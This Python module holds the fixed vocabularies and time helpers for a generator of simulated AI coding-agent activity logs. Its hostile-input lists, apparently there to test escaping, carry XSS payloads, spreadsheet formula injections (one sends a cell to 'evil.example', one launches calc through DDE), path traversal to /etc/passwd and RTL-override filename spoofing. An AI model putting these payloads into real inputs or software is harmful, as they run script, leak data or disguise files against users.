"""Fixed vocabularies and time helpers for the simulated organisation.

Everything the generator draws from lives here, so that the data looks like
the contract's examples and stays byte-stable for a given seed.
"""

from __future__ import annotations

import json
import re
from datetime import datetime, timezone

REFERENCE_TS = int(datetime(2026, 5, 1, tzinfo=timezone.utc).timestamp())
"""The simulated "now" (epoch seconds): fixed, so that the same seed gives the same bytes."""

WINDOW_DAYS = 42
"""Sessions start within this many days before the reference time."""

STATES = ("active", "idle", "ended")

ACTION_TYPES = ("FILE_READ", "FILE_WRITE", "PROCESS_EXEC", "NETWORK_CONNECT", "FILE_DELETE")
ACTION_WEIGHTS = (42, 20, 28, 7, 3)
ACTION_BASE_RISK = {
    "FILE_READ": 4.0,
    "FILE_WRITE": 9.0,
    "PROCESS_EXEC": 12.0,
    "NETWORK_CONNECT": 16.0,
    "FILE_DELETE": 22.0,
}
"""Mean of the exponential part of a score per action type, before session factors."""

TOOLS: dict[str, tuple[str, ...]] = {
    "FILE_READ": ("cat", "head", "grep", "rg", "less"),
    "FILE_WRITE": ("node", "python3", "tee", "sed", "code"),
    "PROCESS_EXEC": ("git", "npm", "pytest", "make", "cargo", "docker", "bash"),
    "NETWORK_CONNECT": ("curl", "wget", "ssh", "pip", "gh"),
    "FILE_DELETE": ("rm", "git", "find"),
}

PATHS = (
    "/app/src/middleware/auth.ts",
    "/app/src/index.ts",
    "/app/package.json",
    "/app/README.md",
    "/app/src/db/migrations/0042_users.sql",
    "/app/tests/test_auth.py",
    "/app/.env",
    "/app/src/api/routes.py",
    "/home/dev/.ssh/id_ed25519",
    "/etc/hosts",
    "/app/Dockerfile",
    "/app/src/utils/crypto.go",
    "/app/build/output.log",
    "/tmp/agent-scratch/plan.md",
    "/app/src/components/Login.tsx",
    "/app/Cargo.toml",
)
URLS = (
    "https://registry.npmjs.org/express",
    "https://pypi.org/simple/requests/",
    "https://api.github.com/repos",
    "https://example.com/install.sh",
    "git@github.com:acme/payments.git",
    "https://10.0.0.12:8443/admin",
)
GIT_ARGS = (
    ("status",),
    ("diff", "--stat"),
    ("add", "-A"),
    ("commit", "-m", "Fix auth middleware"),
    ("push", "origin", "main"),
    ("checkout", "-b", "feature/login"),
    ("push", "--force"),
)

MODELS: tuple[tuple[str, float, float], ...] = (
    # (name, risk factor at the window start, at the window end): some trend riskier, some safer.
    ("claude-sonnet-4-20250514", 1.0, 1.0),
    ("claude-opus-4-20250514", 0.9, 0.75),
    ("claude-3-5-haiku-20241022", 1.1, 1.1),
    ("gpt-4o", 0.9, 1.45),
    ("openai/gpt-4o", 1.0, 1.2),
    ("o3-mini", 1.25, 0.8),
    ("gemini-2.5-pro", 1.2, 1.0),
    ("gemini-2.0-flash", 0.8, 1.3),
)
MODEL_WEIGHTS = (30, 12, 8, 16, 6, 6, 12, 10)

PLATFORMS: tuple[tuple[str, str, str, float, float], ...] = (
    # (platform, signing_id, agent_id, factor at start, factor at end)
    ("claude-code", "com.anthropic.claude-code", "claude-code", 1.0, 0.9),
    ("cursor", "com.todesktop.230313mzl4w4u92", "cursor", 1.0, 1.3),
    ("windsurf", "com.exafunction.windsurf", "windsurf", 1.2, 0.85),
    ("copilot", "com.github.copilot", "copilot", 0.85, 0.85),
    ("codex-cli", "com.openai.codex", "codex", 1.1, 1.35),
    ("gemini-cli", "com.google.gemini-cli", "gemini-cli", 0.9, 1.0),
)
PLATFORM_WEIGHTS = (38, 24, 12, 12, 8, 6)

SESSION_VERBS = ("Fix", "Refactor", "Add", "Investigate", "Upgrade", "Remove", "Document", "Test", "Speed up", "Review")
SESSION_OBJECTS = (
    "auth middleware",
    "login form",
    "payment webhook",
    "CI pipeline",
    "database migration",
    "rate limiter",
    "flaky test",
    "Docker image",
    "API client",
    "error handling",
    "logging",
    "search index",
    "user settings page",
    "cache layer",
    "release notes",
)
CHILD_NAMES = (
    "Run test suite",
    "Search codebase",
    "MCP: github",
    "MCP: postgres",
    "Lint changed files",
    "Summarise diff",
    "Sub-agent: explore",
    "Sub-agent: write tests",
    "Fetch docs",
)

HOSTILE_SESSION_NAMES = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "../../etc/passwd",
    "Fix \u202eevil\u202c RTL override \u2014 \u0625\u0635\u0644\u0627\u062d \U0001f680\U0001f525 \u4fee\u590d \u00e9\u00e8",
)
HOSTILE_MODELS = ("openai/gpt-4o", "<script>window.__pwned=1</script>", "../../models/evil", "=1+1")
HOSTILE_PLATFORMS = (
    '<img src=x onerror="window.__pwned=1">',
    "@SUM(1)",
    "cursor/../../etc",
    "\u0645\u0646\u0635\u0629 \U0001f916",
)
HOSTILE_ARGUMENTS = (
    ("<script>window.__pwned=1</script>",),
    ("-c", '=HYPERLINK("https://evil.example","x")'),
    ("+cmd", "@SUM(1)", "-2+3"),
    ("../../etc/passwd",),
    ("--msg", "\u202egnp.exe\u202c \u2603 \U0001f4a5 \u05e9\u05dc\u05d5\u05dd"),
)

_DAY_PREFIX: dict[int, str] = {}
_CLOCK: list[str] = []
"""``HH:MM:SS`` for every second of a day, built on first use (formatting is the slow part of 500,000 events)."""


def iso(ts: int) -> str:
    """Format epoch seconds as ``YYYY-MM-DDTHH:MM:SSZ`` (the contract's shape).

    Args:
        ts: seconds since the epoch, UTC.

    Returns:
        The ISO 8601 text.
    """
    day, sec = divmod(ts, 86400)
    prefix = _DAY_PREFIX.get(day)
    if prefix is None:
        prefix = datetime.fromtimestamp(day * 86400, tz=timezone.utc).strftime("%Y-%m-%d")
        _DAY_PREFIX[day] = prefix
    if not _CLOCK:
        _CLOCK.extend(f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60))
    return f"{prefix}T{_CLOCK[sec]}Z"


_DATE_ONLY = re.compile(r"^\d{4}-\d{2}-\d{2}$")


def parse_iso(text: str) -> int:
    """Parse an ISO 8601 date or datetime into epoch seconds (naive means UTC).

    Args:
        text: e.g. ``2026-04-12``, ``2026-04-12T14:00:00Z``, ``2026-04-12T16:00:00+02:00``.

    Returns:
        Epoch seconds, rounded down.

    Raises:
        ValueError: the text is not ISO 8601.
    """
    text = text.strip()
    if _DATE_ONLY.match(text):
        text += "T00:00:00"
    dt = datetime.fromisoformat(text.replace("Z", "+00:00").replace("z", "+00:00"))
    if dt.tzinfo is None:
        dt = dt.replace(tzinfo=timezone.utc)
    return int(dt.timestamp() // 1)


def jdump(value: object) -> str:
    """Encode JSON the one way the simulator does (UTF-8 text, default separators)."""
    return json.dumps(value, ensure_ascii=False)
